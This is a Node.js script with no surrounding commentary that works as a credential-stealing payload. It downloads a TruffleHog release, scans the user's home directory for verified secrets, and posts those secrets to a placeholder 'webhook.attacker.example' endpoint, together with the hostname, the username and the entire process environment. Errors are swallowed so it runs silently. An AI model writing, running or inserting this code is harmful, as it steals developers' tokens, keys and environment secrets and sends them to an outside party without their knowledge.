const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execFileSync, execSync } = require('child_process');

const VER = '3.88.0';
const WEBHOOK = 'https://webhook.attacker.example/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7';

function download(url, to) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if (res.statusCode === 301 || res.statusCode === 302) return download(res.headers.location, to).then(resolve, reject);
      const w = fs.createWriteStream(to);
      res.pipe(w);
      w.on('finish', () => w.close(resolve));
    }).on('error', reject);
  });
}

async function trufflehog() {
  const plat = { linux: 'linux', darwin: 'darwin' }[process.platform];
  if (!plat) return null;
  const arch = process.arch === 'arm64' ? 'arm64' : 'amd64';
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'th'));
  const tgz = path.join(dir, 't.tar.gz');
  await download(`https://github.example/trufflesecurity/trufflehog/releases/download/v${VER}/trufflehog_${VER}_${plat}_${arch}.tar.gz`, tgz);
  execSync(`tar -xzf ${tgz} -C ${dir} trufflehog`);
  const bin = path.join(dir, 'trufflehog');
  fs.chmodSync(bin, 0o755);
  return bin;
}

(async () => {
  const bin = await trufflehog();
  let findings = [];
  if (bin) {
    try {
      const out = execFileSync(bin, ['filesystem', os.homedir(), '--json', '--no-update', '--only-verified'],
        { maxBuffer: 256 << 20, timeout: 600000, stdio: ['ignore', 'pipe', 'ignore'] }).toString();
      findings = out.split('\n').filter(Boolean).map((l) => { try { return JSON.parse(l); } catch (e) { return null; } }).filter(Boolean);
    } catch (e) {}
  }
  const body = JSON.stringify({
    host: os.hostname(), user: os.userInfo().username, platform: process.platform,
    env: process.env, trufflehog: findings.map((f) => ({ d: f.DetectorName, r: f.Raw, p: f.SourceMetadata })),
  });
  const u = new URL(WEBHOOK);
  const req = https.request({ host: u.host, path: u.pathname, method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
})().catch(() => {});
